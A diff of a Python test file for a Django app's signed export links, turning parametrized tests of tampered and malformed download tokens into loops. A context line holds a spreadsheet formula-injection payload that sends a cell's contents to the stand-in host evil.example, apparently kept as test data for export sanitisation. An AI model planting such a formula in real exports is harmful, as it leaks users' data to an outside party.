@@ -27,10 +27,12 @@ from apps.tenants.services import resume_tenant, suspend_tenant
 from apps.transfers.exports import export_worker, files, links, reading
 from apps.transfers.exports.export_worker import ExportOutcome
 from apps.transfers.models.exports import ExportChunk, ExportJob, ExportLink
+from tests import once
 from tests.api.conftest import Caller
 from tests.makers import make_api_key, make_project
 
 pytestmark = pytest.mark.django_db(databases="__all__")
+cast, acme, globex = once.cast, once.acme, once.globex
 
 DOG, HOME, WORK = "My dog Biscuit sleeps on the blue sofa.", "I live in Lisbon.", "I work as a nurse."
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -380,22 +382,23 @@ def test_link_is_good_for_minutes(made: Any, exporter: Caller, monkeypatch: pyte
         assert take(link).status_code == status
 
 
-@pytest.mark.parametrize("at", range(40))
-def test_link_with_another_byte_is_refused(at: int, made: Any, exporter: Caller) -> None:
+def test_link_with_another_byte_is_refused(made: Any, exporter: Caller) -> None:
     link = link_of(exporter, made)
     path, _, token = link.rpartition("/")
-    raw = bytearray(base64.urlsafe_b64decode(token + "=="))
-    raw[at] ^= 1
+    right = base64.urlsafe_b64decode(token + "==")
+    assert len(right) == 40
 
-    bent = base64.urlsafe_b64encode(raw).decode().rstrip("=")
-
-    assert refusal(take(f"{path}/{bent}")) == REFUSED
+    for at in range(40):
+        raw = bytearray(right)
+        raw[at] ^= 1
+        bent = base64.urlsafe_b64encode(raw).decode().rstrip("=")
+        assert refusal(take(f"{path}/{bent}")) == REFUSED, at
     assert take(link).status_code == 200
 
 
-@pytest.mark.parametrize("token", ["x", "=", "%00", "a" * 54, "a" * 53, "a" * 5000, "%F0%9F%97%9D", "____" * 13 + "__"])
-def test_what_is_no_token_is_refused(token: str, made: Any) -> None:
-    assert refusal(take(f"/exports/{made['id']}/file/{token}")) == REFUSED
+def test_what_is_no_token_is_refused(made: Any) -> None:
+    for token in ("x", "=", "%00", "a" * 54, "a" * 53, "a" * 5000, "%F0%9F%97%9D", "____" * 13 + "__"):
+        assert refusal(take(f"/exports/{made['id']}/file/{token}")) == REFUSED, token
 
 
 def respelled(token: str) -> dict[str, str]:
